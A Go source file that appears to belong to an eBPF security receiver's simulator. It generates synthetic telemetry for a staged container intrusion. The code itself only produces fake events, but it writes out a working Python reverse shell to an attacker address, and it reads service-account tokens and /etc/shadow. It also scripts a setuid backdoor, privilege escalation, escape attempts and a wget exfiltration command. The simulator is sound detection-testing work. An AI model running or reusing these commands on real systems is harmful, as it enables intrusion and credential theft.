// Copyright The otelcol-tapio Authors
// SPDX-License-Identifier: Apache-2.0

package simulator // import "github.com/tapio-io/otelcol-tapio/receiver/tapioebpfreceiver/internal/source/simulator"

import (
	"golang.org/x/net/dns/dnsmessage"

	"github.com/tapio-io/otelcol-tapio/bpf"
	"github.com/tapio-io/otelcol-tapio/receiver/tapioebpfreceiver/internal/event"
)

// outside is where the attacker sits.
var outside = ipv4(203, 0, 113, 66)

// attack begins with a web server that starts a program for somebody outside, and ends with data that goes out. All
// of it is that program's: whoever looks at one step finds the others in the same trace.
func (s *story) attack(now uint64) uint64 {
	victim := s.anyPod(s.services["cart"])
	to := endpoint{address: outside, port: 4444}
	return s.command(victim.server, now, "/usr/bin/python3.12", []string{"python3", "-c", reverseShell}, 0, func(p *process, now uint64) uint64 {
		c := s.connect(p, wayTo(to), &now)
		now = s.run(p, now, &program{exe: "/usr/bin/bash", args: []string{"bash", "-i"}, stdin: &to, does: s.takeOver})
		c.sent, c.received = s.between(2000, 9000), s.between(200, 900)
		return s.close(c, now)
	})
}

// reverseShell is what somebody had the server run.
const reverseShell = `import os,socket,subprocess;s=socket.create_connection(("203.0.113.66",4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["bash","-i"])`

func (s *story) takeOver(shell *process, now uint64) uint64 {
	for _, step := range []func(*process, uint64) uint64{s.lookAround, s.implant, s.escalate, s.exfiltrate} {
		now = step(shell, now+s.typing())
	}
	return now
}

// typing is what a person needs for a command; ns.
func (s *story) typing() uint64 { return s.between(50*millisecond, 400*millisecond) }

// steps are commands, one after the other.
func (s *story) steps(shell *process, now uint64, programs ...*program) uint64 {
	for _, of := range programs {
		now = s.run(shell, now+s.typing(), of)
	}
	return now
}

// lookAround: who am I, what may I read?
func (s *story) lookAround(shell *process, now uint64) uint64 {
	return s.steps(shell, now,
		&program{exe: "/usr/bin/id", args: []string{"id"}},
		&program{
			exe: "/usr/bin/cat", args: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
			does: func(p *process, now uint64) uint64 { return s.open(p, now, p.pod.token) },
		},
		&program{
			exe: "/usr/bin/cat", args: []string{"cat", shadow}, status: failure,
			does: func(p *process, now uint64) uint64 { return s.openInVain(p, now, shadow) },
		},
	)
}

// implant is a program that is in no file, calls itself as if it were of the kernel, and gets hold of the server,
// which is of the same user.
func (s *story) implant(shell *process, now uint64) uint64 {
	return s.run(shell, now, &program{
		exe: "/memfd:agent", args: []string{"[kworker/0:2]"}, unlinked: true,
		does: func(p *process, now uint64) uint64 {
			now = s.attach(p, p.pod.server, now)
			for range 3 {
				now = s.writeMemory(p, p.pod.server, now, 4096)
			}
			return now
		},
	})
}

// escalate is what makes the server's user root, as images have it that were made in haste: an interpreter with a
// capability, and a set-user-ID program.
func (s *story) escalate(shell *process, now uint64) uint64 {
	return s.steps(shell, now, &program{
		exe: "/usr/bin/python3.12", args: []string{"python3", "-c", "import os;os.setuid(0)"}, status: failure, does: s.becomeInVain,
	}, &program{
		exe: "/usr/bin/perl", args: []string{"perl", "-e", "use POSIX;POSIX::setuid(0);print `id`"}, capabilities: capabilitySetuid,
		does: func(p *process, now uint64) uint64 { return s.setuid(p, now, 0) },
	}, &program{
		exe: "/usr/bin/sudo", args: []string{"sudo", "-n", "bash"}, setuid: true,
		does: func(sudo *process, now uint64) uint64 {
			now = s.open(sudo, now, sudoers)
			now = s.setgid(sudo, now, 0)
			now = s.setuid(sudo, now, 0)
			return s.command(sudo, now, "/usr/bin/bash", []string{"bash"}, 0, s.asRoot)
		},
	})
}

// asRoot of the container: what is the container's is theirs now, what is the node's is not.
func (s *story) asRoot(shell *process, now uint64) uint64 {
	return s.steps(shell, now,
		&program{
			exe: "/usr/bin/cat", args: []string{"cat", shadow},
			does: func(p *process, now uint64) uint64 { return s.open(p, now, shadow) },
		},
		&program{exe: "/usr/bin/chmod", args: []string{"chmod", "4755", "/var/tmp/.cache/sh"}, does: s.leaveDoor},
		&program{
			exe: "/usr/bin/python3.12", args: []string{"python3", "/var/tmp/.cache/sniff.py"},
			does: func(p *process, now uint64) uint64 {
				return s.try(p, now, event.SecurityRawSocket, bpf.WireSecurityOperationOPERATION_SOCKET, 0, familyPacket, socketRaw, protocolAll)
			},
		},
		&program{exe: "/var/tmp/.cache/escape", args: []string{"escape", "--try-all"}, status: failure, does: s.escape},
	)
}

// leaveDoor is a shell that makes everybody root.
func (s *story) leaveDoor(p *process, now uint64) uint64 {
	s.act(p, now, &action{
		kind: event.SecuritySetuidBit, operation: bpf.WireSecurityOperationOPERATION_CHMOD, file: "/var/tmp/.cache/sh", isAsked: true,
		values: [4]uint64{modeSetuid | 0o755},
	})
	return s.shortly(now)
}

// escape tries the ways out of a container, none of which is open but the namespaces of a user. There one may mount,
// but nothing that leads out.
func (s *story) escape(p *process, now uint64) uint64 {
	now = s.mount(p, now, errorPermission, mounted{"/dev/vda1", "/mnt", "ext4", 0})
	s.act(p, now, &action{
		kind: event.SecurityModuleLoad, operation: bpf.WireSecurityOperationOPERATION_INIT_MODULE, errno: errorPermission,
	})
	now = s.shortly(now)
	now = s.try(p, now, event.SecurityBPF, bpf.WireSecurityOperationOPERATION_BPF, errorPermission, bpfProgramLoad, bpfProgramKprobe)
	now = s.try(p, now, event.SecurityKernelLog, bpf.WireSecurityOperationOPERATION_SYSLOG, errorPermission, logReadAll)
	now = s.try(p, now, event.SecurityKexec, bpf.WireSecurityOperationOPERATION_KEXEC_LOAD, errorPermission, 0)
	now = s.try(p, now, event.SecurityNamespace, bpf.WireSecurityOperationOPERATION_UNSHARE, 0, namespaceUser|namespaceMount)
	return s.run(p, now, &program{
		exe: p.exe, args: []string{"escape", "--inside"}, status: failure, before: s.clonedInto(namespaceUser | namespaceMount | namespacePID),
		does: func(inside *process, now uint64) uint64 {
			now = s.mount(inside, now, 0, mounted{"none", "/", "", mountPrivate | mountRec})
			return s.mount(inside, now, 0, mounted{"none", "/tmp", "tmpfs", mountNoSuid | mountNoDev})
		},
	})
}

// exfiltrate what was found.
func (s *story) exfiltrate(shell *process, now uint64) uint64 {
	const name = "files.example.net"
	return s.command(shell, now, "/usr/bin/wget", []string{"wget", "-q", "--post-file=/var/tmp/.cache/out", "http://" + name + "/x"}, failure, func(p *process, now uint64) uint64 {
		now, _ = s.ask(p, now, name, dnsmessage.RCodeSuccess, outside)
		c := s.connect(p, wayTo(endpoint{address: outside, port: 80}), &now)
		c.sent = 4096 + s.between(0, 20_000)
		return s.close(c, now+s.between(10*millisecond, 50*millisecond))
	})
}
